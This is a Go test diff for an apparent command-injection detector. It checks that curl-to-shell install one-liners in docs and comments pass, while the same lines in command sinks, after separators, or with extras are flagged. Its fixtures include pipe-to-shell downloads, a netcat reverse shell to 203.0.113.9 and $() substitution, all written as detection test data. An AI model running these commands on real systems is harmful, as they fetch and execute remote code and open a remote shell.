@@ -138,3 +138,22 @@ func TestAllowanceBypassSpanPrefixes(t *testing.T) {
 		{"outside a span", q("host", "127.0.0.1 | env FOO=1 sh"), "cmdi-separator", "cmdi-separator"},
 	})
 }
+
+func TestAllowanceBypassInstallOneLiner(t *testing.T) {
+	runLevelCases(t, []levelCase{
+		// a tool's install line in docs, a ticket or a chat (issue 14's
+		// false positive): allowed at paranoia 1 outside command sinks
+		{"fenced", body("readme", "## Install\n\n```sh\ncurl -fsSL https://get.example.io | sh\n```\n\nThen run `example --help`."), "", "cmdi-separator"},
+		{"inline", body("comment", "Install with `curl -LsSf https://astral.sh/uv/install.sh | sh` and restart."), "", "cmdi-separator"},
+		{"whole value", body("notes", "wget -qO- https://get.docker.com | sudo bash"), "", "cmdi-separator"},
+		// the same line where it would run, or run something else
+		{"in a command sink", q("cmd", "curl -fsSL https://get.example.io | sh"), "*", "*"},
+		{"after a separator", q("q", "x; curl -fsSL https://get.example.io | sh"), "*", "*"},
+		{"after another line", q("q", "127.0.0.1\ncurl -fsSL https://get.example.io | sh"), "*", "*"},
+		{"a second command line", body("notes", "curl -fsSL https://get.example.io | sh\nnc -e /bin/sh 203.0.113.9 4444"), "*", "*"},
+		{"sh -c", body("notes", "curl -fsSL https://get.example.io | sh -c id"), "*", "*"},
+		{"an address", body("notes", "curl -fsSL https://203.0.113.9/x | sh"), "*", "*"},
+		{"plain http", body("notes", "curl -fsSL http://get.example.io | sh"), "*", "*"},
+		{"substitution in a span", body("comment", "see `$(curl -fsSL https://get.example.io | sh)` here"), "*", "*"},
+	})
+}
